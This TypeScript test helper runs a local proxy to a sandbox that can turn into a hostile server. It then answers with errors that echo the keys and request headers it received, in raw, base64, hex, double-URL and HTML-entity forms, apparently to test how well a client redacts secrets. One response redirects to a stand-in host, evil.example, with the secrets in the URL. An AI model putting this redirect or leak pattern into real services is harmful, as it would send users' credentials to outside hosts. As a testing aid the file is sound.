/**
 * Passes everything on to the sandbox, and on demand becomes the worst other side: it answers errors that hold all that
 * it was sent, keys included, and further secrets, in every encoding, long enough to be cut anywhere.
 */
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { text } from 'node:stream/consumers';

export interface EchoingSystems {
  /** Without a slash at the end. */
  readonly url: string;
  /** From now on every answer is an error that holds them. Null: answers are the sandbox's again. */
  leak(secrets: readonly string[] | null): void;
  close(): Promise<void>;
}

const FORMS: readonly ((secret: string) => string)[] = [
  (secret) => secret,
  (secret) => encodeURIComponent(encodeURIComponent(secret)),
  (secret) => JSON.stringify(secret).replaceAll('/', '\\/').replaceAll('+', '\\u002b'),
  (secret) => Buffer.from(`user:${secret}`).toString('base64'),
  (secret) => Buffer.from(secret).toString('base64url'),
  (secret) => Buffer.from(secret).toString('hex').toUpperCase(),
  (secret) => secret.replaceAll('e', '&#101;'),
];

export async function startEchoingSystems(target: () => string): Promise<EchoingSystems> {
  let leaked: readonly string[] | null = null;
  let count = 0;
  const server = createServer((request, answer) => {
    if (leaked === null) void passOn(target(), request, answer).catch(() => answer.destroy());
    else answerError(answer, [...leaked, ...Object.values(request.headers).map(String)], count++);
  });
  await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    leak: (secrets) => void (leaked = secrets),
    close: async () => {
      server.closeAllConnections();
      await new Promise((closed) => server.close(closed));
    },
  };
}

function answerError(answer: ServerResponse, secrets: readonly string[], count: number): void {
  const form = FORMS[count % FORMS.length] ?? String;
  const told = secrets.map((secret) => `${form(secret)} ${'no '.repeat(count % 30)}${secret}`).join(' ');
  const json = { 'content-type': 'application/json' };
  const answers = [
    () => answer.writeHead(400, json).end(JSON.stringify({ errors: [{ message: told }], message: told })),
    () => answer.writeHead(500, { 'content-type': 'text/html' }).end(`<html>${told}</html>`),
    () => answer.writeHead(403, json).end(JSON.stringify({ error: told })),
    () => answer.writeHead(302, { location: `https://evil.example/${encodeURIComponent(told.slice(0, 900))}` }).end(),
    () => answer.writeHead(200, { 'content-type': 'text/plain' }).end(told),
  ];
  answers[count % answers.length]?.();
}

async function passOn(target: string, request: IncomingMessage, answer: ServerResponse): Promise<void> {
  const { method = 'GET', url = '/' } = request;
  const headers = new Headers();
  for (const [name, value] of Object.entries(request.headers))
    if (typeof value === 'string' && !['host', 'connection', 'content-length'].includes(name)) headers.set(name, value);
  const body = ['GET', 'HEAD'].includes(method) ? {} : { body: await text(request) };
  const given = await fetch(`${target}${url}`, { method, headers, ...body });
  const type = given.headers.get('content-type');
  answer
    .writeHead(given.status, type === null ? {} : { 'content-type': type })
    .end(Buffer.from(await given.arrayBuffer()));
}
